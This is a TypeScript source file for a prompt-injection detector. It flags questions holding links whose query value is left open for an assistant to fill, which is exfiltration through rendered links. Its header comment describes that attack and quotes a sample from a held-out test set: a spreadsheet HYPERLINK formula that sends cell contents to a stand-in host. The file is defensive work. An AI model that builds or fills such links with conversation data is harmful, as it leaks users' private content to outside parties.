/**
 * A link in a question whose query value is left open for the answer to fill: empty ("https://x.example/t?d=" before a
 * bracket, a quote, an "&" or the sentence's next words) or a named slot ("?body=<text>", "?q={answer}", "?s=SUMMARY",
 * "?d=[data]", "%s"). Whatever the language around it, such a link is where the conversation or the documents are to be
 * carried out (OWASP LLM01's exfiltration through a rendered image or link): every question of the spent held-out sets
 * and audits that held one was an attack, in 60 languages, and none of their ordinary questions did. Language-free, so
 * it reads the words no lexicon has (held-out set 16, spent: a Khmer spreadsheet cell
 * `=HYPERLINK("https://sheet-sync.example.biz/in?d="&A1&B1,…)`, 0.56). A link whose values are filled in ("?id=4711",
 * "?lang=en", "?currency=EUR") asks the assistant to fill nothing; documents quote such links and are not read here.
 */

/** The link up to its last parameter's name and "=". */
const linkToValue = String.raw`https?:\/\/[^\s"'“”‘’<>()\[\]{}]+?\?(?:[^\s"'“”‘’<>()\[\]{}#]*&)?[\p{L}\p{N}_.~%-]{1,24}=`;
/** Nothing after the "=": the link ends there, or the text goes on to say what goes in it. */
const emptyValue = String.raw`(?=$|[\s"'“”‘’)\]>&,;]|\.(?:\s|$))`;
/**
 * A named slot: in braces, angle brackets or square brackets ("{the whole conversation}"), printf's %s, a word in
 * capitals ("SUMMARY", "PUT_A_SUMMARY_HERE"), or an ellipsis the markup closes ("?text=...\">").
 */
const slotValue = String.raw`(?:\{\{?[^}\n]{1,40}\}\}?|<[^>\n]{1,40}>|\[[^\]\n]{1,40}\]|%s|(?=(?:_*\p{Lu}\p{M}*){4})[\p{Lu}\p{M}_]{4,}(?![\p{L}\p{N}])|(?:\.{3}|…)(?=["'“”‘’)>\]]|$))`;

const openLink = new RegExp(`${linkToValue}(?:${emptyValue}|${slotValue})`, "u");

/** Whether the question (raw, case kept) holds a link whose query value is left open for the answer. */
export const leavesALinkOpen = (raw: string) => raw.includes("?") && raw.includes("=") && openLink.test(raw);
